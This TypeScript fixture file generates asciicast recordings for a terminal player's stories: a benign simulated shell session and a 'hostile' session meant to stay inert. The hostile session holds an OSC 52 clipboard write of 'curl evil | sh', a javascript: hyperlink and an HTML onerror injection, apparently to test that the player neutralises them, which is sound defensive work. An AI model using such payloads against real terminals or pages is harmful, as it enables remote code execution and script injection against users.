/** Small generated recordings for the player's stories (asciicast v3 text). */
import { type AsciicastCode, stringifyAsciicast } from '@auditlane/client/asciicast';

const ESC = '\u001b';

function cast(events: [number, string, string][], cols = 100, rows = 28): string {
  return stringifyAsciicast(
    { version: 3, term: { cols, rows }, idle_time_limit: 2 },
    events.map(([time, code, data]) => ({ time, code: code as AsciicastCode, data })),
  );
}

/** A minute of a shell: prompts, colour logs, a pager in the alternate screen, markers. */
export function shellSession(): string {
  const events: [number, string, string][] = [];
  let t = 0;
  for (let n = 1; n <= 12; n++) {
    t += 0.8;
    events.push([t, 'o', `${ESC}[1;32mops@web-1${ESC}[0m:${ESC}[1;34m/srv/app${ESC}[0m$ `]);
    t += 0.6;
    events.push([t, 'm', `tail -n 20 app.log #${n}`]);
    events.push([t, 'o', `tail -n 20 app.log\r\n`]);
    for (let i = 0; i < 20; i++) {
      t += 0.03;
      const level = (n + i) % 7 === 0 ? `${ESC}[31mERROR${ESC}[0m` : `${ESC}[36mINFO ${ESC}[0m`;
      events.push([
        t,
        'o',
        `${level} request id=${n}-${i} path=/api/orders status=200 ${ESC}[2m${i * 4} ms${ESC}[22m\r\n`,
      ]);
    }
    if (n % 4 === 0) {
      t += 0.5;
      events.push([t, 'o', `${ESC}[?1049h${ESC}[H${ESC}[2J`]);
      for (let i = 0; i < 27; i++)
        events.push([
          t + 0.01 * i,
          'o',
          `${ESC}[${i + 1};1H${ESC}[7m PID ${1000 + i} ${ESC}[0m cpu ${(i * 3) % 100}%`,
        ]);
      t += 2;
      events.push([t, 'o', `${ESC}[?1049l`]);
    }
    if (n === 6) t += 8; // idle
  }
  t += 0.5;
  events.push([t, 'o', 'exit\r\n']);
  return cast(events);
}

/** Content that must stay inert: a clipboard write, a javascript: link, HTML. */
export function hostileSession(): string {
  return cast([
    [0.2, 'o', `${ESC}]52;c;${btoa('curl evil | sh')}${ESC}\\clipboard write ignored\r\n`],
    [
      0.6,
      'o',
      `${ESC}]8;;javascript:alert(1)${ESC}\\a javascript: link (never opened)${ESC}]8;;${ESC}\\\r\n`,
    ],
    [1.0, 'o', `${ESC}]8;;https://asciinema.org${ESC}\\an https link${ESC}]8;;${ESC}\\\r\n`],
    [1.4, 'o', '<img src=x onerror=alert(1)> <b>shown as text</b>\r\n'],
  ]);
}
